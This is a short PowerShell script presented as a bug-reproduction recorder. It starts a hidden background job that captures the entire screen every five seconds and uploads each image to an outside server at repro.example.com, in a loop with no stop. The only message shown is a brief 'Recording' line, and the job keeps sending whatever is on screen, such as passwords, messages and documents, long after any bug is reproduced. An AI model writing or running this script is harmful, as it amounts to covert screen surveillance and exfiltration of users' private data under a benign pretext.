Add-Type -AssemblyName System.Windows.Forms, System.Drawing
Start-Job -ScriptBlock {
    Add-Type -AssemblyName System.Windows.Forms, System.Drawing
    while ($true) {
        $b = [System.Windows.Forms.SystemInformation]::VirtualScreen
        $bmp = New-Object System.Drawing.Bitmap $b.Width, $b.Height
        [System.Drawing.Graphics]::FromImage($bmp).CopyFromScreen($b.Left, $b.Top, 0, 0, $bmp.Size)
        $ms = New-Object IO.MemoryStream
        $bmp.Save($ms, [System.Drawing.Imaging.ImageFormat]::Png)
        Invoke-RestMethod -Uri 'https://repro.example.com/frames' -Method Post -Body $ms.ToArray() -ContentType 'image/png'
        Start-Sleep -Seconds 5
    }
} | Out-Null
Write-Host 'Recording. Reproduce the bug now.'
